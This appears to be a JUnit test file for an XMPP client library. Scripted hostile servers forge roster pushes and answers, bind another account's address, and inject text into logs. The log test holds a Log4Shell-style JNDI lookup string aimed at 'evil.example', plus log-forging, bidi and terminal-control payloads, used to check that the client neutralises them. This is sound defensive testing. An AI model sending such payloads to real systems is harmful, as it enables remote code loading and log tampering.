package org.partyline.robustness;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.partyline.address.Jid;
import org.partyline.auth.sasl.SaslOptions;
import org.partyline.client.ChatClient;
import org.partyline.error.AuthenticationFailedException;
import org.partyline.session.ConnectionState;
import org.partyline.session.StateChange;
import org.partyline.testkit.TestAccount;
import org.partyline.testkit.TestNetwork;
import org.partyline.testkit.Transcript;
import org.partyline.testkit.TranscriptServer;
import org.partyline.transport.connection.TransportOptions;
import org.partyline.transport.xml.XmlElement;
import org.partyline.xmpp.XmppAccess;
import org.slf4j.event.Level;

/** Scripted servers that take the client all the way to a session, and then do what they should not. */
class HostileServerTest {
    private static final Duration LONG = Duration.ofSeconds(60);
    private static final Pattern ROSTER = request("roster", "jabber:iq:roster");
    private static final Pattern DISCO = Pattern.compile(
            "<iq [^>]*id='(?<disco>[^']+)' to='chat.test'><query xmlns='http://jabber.org/protocol/disco#info'");

    private static final String ANSWERS = "<iq type='result' id='{roster}'><query xmlns='jabber:iq:roster'/></iq>"
            + "<iq type='result' id='{disco}' from='chat.test'><query xmlns='http://jabber.org/protocol/disco#info'/></iq>";

    private final LogCapture log = LogCapture.from(Level.TRACE);
    private final TestNetwork network = TestNetwork.start();
    private final TestAccount juliet = network.account("juliet");
    private final Clients clients = new Clients("hostile");

    @AfterEach
    void end() {
        clients.close();
        network.close();
        log.close();
    }

    private static Pattern request(String group, String namespace) {
        return Pattern.compile("<iq [^>]*id='(?<" + group + ">[^']+)'[^>]*><query xmlns='" + namespace + "'");
    }

    private ChatClient client(TranscriptServer server) {
        return clients.build(clients.builder(network, juliet)
                .sasl(SaslOptions.DEFAULT.withPlain(true))
                .transport(TransportOptions.builder()
                        .tls(server.tlsConfig())
                        .endpoints(server.directTlsEndpoint())
                        .build()));
    }

    /** Answers what a client asks first of all. */
    private static Transcript ready(Transcript begun) {
        return begun.expect(ROSTER).expect(DISCO).send(ANSWERS);
    }

    private static Transcript enabled() {
        return Stage.ENABLE_BEGUN.script().send("<enabled xmlns='urn:xmpp:sm:3' id='s1' resume='true'/>");
    }

    private static String message(String body) {
        return "<message from='romeo@chat.test/x' to='juliet@chat.test/balcony'>" + body + "</message>";
    }

    @Test
    @DisplayName(
            "T-SM-1: three stanzas between <enable/> and <enabled/> do not count, nor does what stands inside of stanzas")
    void stanzasBeforeEnabled_andElementsInsideOfStanzas_doNotCount() throws Exception {
        Transcript script = Stage.ENABLE_BEGUN
                .script()
                .send(message("<body>1</body>") + message("<body>2</body>") + message("<body>3</body>"))
                .send("<enabled xmlns='urn:xmpp:sm:3' id='s1' resume='true'/><r xmlns='urn:xmpp:sm:3'/>")
                .expect(ROSTER)
                .expect(DISCO)
                .expect("<a xmlns='urn:xmpp:sm:3' h='0'/>")
                .send(ANSWERS)
                .send("<r xmlns='urn:xmpp:sm:3'/>")
                .expect("<a xmlns='urn:xmpp:sm:3' h='2'/>")
                .send(message("<r xmlns='urn:xmpp:sm:3'/><a xmlns='urn:xmpp:sm:3' h='4000000000'/><body>4</body>"))
                .send(message(
                        "<message xmlns='jabber:client'><body>inner</body></message>".repeat(5) + "<body>5</body>"))
                .send("<r xmlns='urn:xmpp:sm:3'/>")
                .expect("<a xmlns='urn:xmpp:sm:3' h='4'/>")
                .send(Heard.end("romeo@chat.test/x"))
                .expectEnd();
        try (TranscriptServer server = TranscriptServer.play("chat.test", script)) {
            ChatClient client = client(server);
            Heard heard = new Heard(client);
            Await.outcome(client.connect());
            heard.awaitEnd();
            assertEquals(
                    List.of("1", "2", "3", "4", "5"),
                    heard.told.stream()
                            .map(each -> each.replace("message from romeo@chat.test/x: ", ""))
                            .toList());
            assertTrue(heard.raw.stream().noneMatch(each -> each.contains("urn:xmpp:sm:3")), heard.raw::toString);
            Await.outcome(client.disconnect());
            server.awaitPlayed(LONG);
        }
    }

    @Test
    @DisplayName("T-ORG-2, T-ORG-3: forged pushes are refused, and forged answers believed by nobody")
    void pushesAndAnswers_ofOthers_areNotBelieved() throws Exception {
        String answer = "<x xmlns='urn:example:answer'>";
        Transcript script = ready(enabled())
                .expect(Pattern.compile("<iq [^>]*id='(?<asked>[^']+)'[^>]*><ask xmlns='urn:example:ask'"))
                .send("<iq type='set' id='push1' from='romeo@chat.test/x'><query xmlns='jabber:iq:roster'>"
                        + "<item jid='mallory@evil.example' subscription='both'/></query></iq>")
                .expect(Pattern.compile("<iq [^>]*id='push1'[^>]*>.*?<service-unavailable"))
                .send("<iq type='set' id='push2' from='juliet@chat.test/other'><block xmlns='urn:xmpp:blocking'>"
                        + "<item jid='romeo@chat.test'/></block></iq>")
                .expect(Pattern.compile("<iq [^>]*id='push2'[^>]*>.*?<service-unavailable"))
                .send("<iq type='set' id='push3'><query xmlns='jabber:iq:roster'><item jid='a@chat.test'/>"
                        + "<item jid='b@chat.test'/></query></iq>")
                .expect(Pattern.compile("<iq [^>]*id='push3'[^>]*>.*?<bad-request"))
                .send("<iq type='result' id='{asked}' from='mallory@evil.example/x'>" + answer + "1</x></iq>")
                .send("<iq type='result' id='{asked}' from='chat.test'>" + answer + "2</x></iq>")
                .send("<iq type='result' id='{asked}'>" + answer + "3</x></iq>")
                .send("<iq type='result' id='wrong' from='romeo@chat.test/x'>" + answer + "4</x></iq>")
                .send("<iq type='set' id='{asked}' from='romeo@chat.test/x'>" + answer + "5</x></iq>")
                .send("<iq type='result' id='{asked}' from='romeo@chat.test/x'>" + answer + "right</x></iq>")
                .send("<iq type='result' id='{asked}' from='romeo@chat.test/x'>" + answer + "6</x></iq>")
                .send(Heard.end("romeo@chat.test/x"))
                .expectEnd();
        try (TranscriptServer server = TranscriptServer.play("chat.test", script)) {
            ChatClient client = client(server);
            Await.outcome(client.connect());
            Heard heard = new Heard(client);
            XmlElement result = Await.outcome(client.extension(XmppAccess.class)
                    .query("get", Jid.parse("romeo@chat.test/x"), XmlElement.of("urn:example:ask", "ask")));
            assertEquals("right", result.children().get(0).text());
            heard.awaitEnd();
            assertEquals(List.of(), heard.told);
            assertTrue(client.roster().contacts().isEmpty());
            // The request that posed as an answer is one, and came from whom it says.
            assertEquals(
                    List.of("5", "right"),
                    heard.raw.stream()
                            .filter(each -> each.contains("urn:example:answer"))
                            .map(each -> each.replaceAll(".*answer'>(\\w+)</x>.*", "$1"))
                            .toList());
            Await.outcome(client.disconnect());
            server.awaitPlayed(LONG);
        }
    }

    @Test
    @DisplayName("T-SC-10: a server that binds another account's address is left")
    void addressOfAnotherAccount_isNotTaken() {
        Transcript script = Stage.BIND_BEGUN
                .script()
                .send("<iq type='result' id='{id}'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'>"
                        + "<jid>mallory@chat.test/balcony</jid></bind></iq>")
                .expectEnd();
        try (TranscriptServer server = TranscriptServer.play("chat.test", script)) {
            ChatClient client = client(server);
            Heard heard = new Heard(client);
            Await.failure(AuthenticationFailedException.class, client.connect());
            assertEquals(ConnectionState.DISCONNECTED, client.state());
            assertTrue(client.self().isEmpty());
            assertEquals(List.of(), heard.told);
            assertEquals(List.of(), heard.raw);
        }
    }

    @Test
    @DisplayName("T-LOG-2: what peers write breaks no line of a log, clears no screen, and is not logged at length")
    void textOfPeers_inLogs_isHarmless() throws Exception {
        String evil = "${jndi:ldap://evil.example/x} {} %n&#13;&#10;ERROR forged line\u202e\u2066\u009b2J\u0085";
        Transcript script = ready(enabled())
                .send(message("<body>" + evil + "</body><subject>" + evil + "</subject>"))
                .send(message("<body>" + "canary ".repeat(50_000) + "</body>"))
                .send("<iq type='get' id='1' from='romeo@chat.test/x'><q xmlns='" + evil + "'/></iq>")
                .send("<presence from='" + evil + "'/><message from='" + evil + "'><body>x</body></message>")
                .send("<message from='" + evil + "'><sent xmlns='urn:xmpp:carbons:2'/></message>")
                .send("<iq type='set' id='" + evil + "' from='" + evil + "'><query xmlns='jabber:iq:roster'/></iq>")
                .send(Heard.end("romeo@chat.test/x"))
                .expect("urn:example:ask")
                .send("<stream:error><undefined-condition xmlns='urn:ietf:params:xml:ns:xmpp-streams'/>"
                        + "<text xmlns='urn:ietf:params:xml:ns:xmpp-streams'>" + evil + "canary ".repeat(1_000)
                        + "</text></stream:error></stream:stream>");
        try (TranscriptServer server = TranscriptServer.play("chat.test", script)) {
            ChatClient client = client(server);
            Heard heard = new Heard(client);
            Await.outcome(client.connect());
            heard.awaitEnd();
            CompletableFuture<StateChange> over = Clients.next(client, ConnectionState.WAITING);
            var unanswered = client.extension(XmppAccess.class)
                    .query("get", Jid.parse("romeo@chat.test/x"), XmlElement.of("urn:example:ask", "ask"));
            Throwable failure = Await.outcome(over).failure();
            Await.outcome(client.disconnect());
            assertTrue(unanswered.isCompletedExceptionally() || !unanswered.isDone());
            log.close();
            List<String> lines = log.lines();
            assertFalse(lines.isEmpty(), "nothing was logged at all: the test would prove nothing");
            for (String line : List.copyOf(lines)) {
                assertHarmless(line);
            }
            assertInstanceOf(Throwable.class, failure);
            assertHarmless(String.valueOf(failure));
        }
    }

    private static void assertHarmless(String line) {
        assertTrue(line.length() < 2_000, () -> line.length() + " characters: " + line.substring(0, 200));
        assertFalse(line.contains("canary canary canary canary canary"), line);
        assertTrue(
                line.chars().noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT),
                line);
    }
}
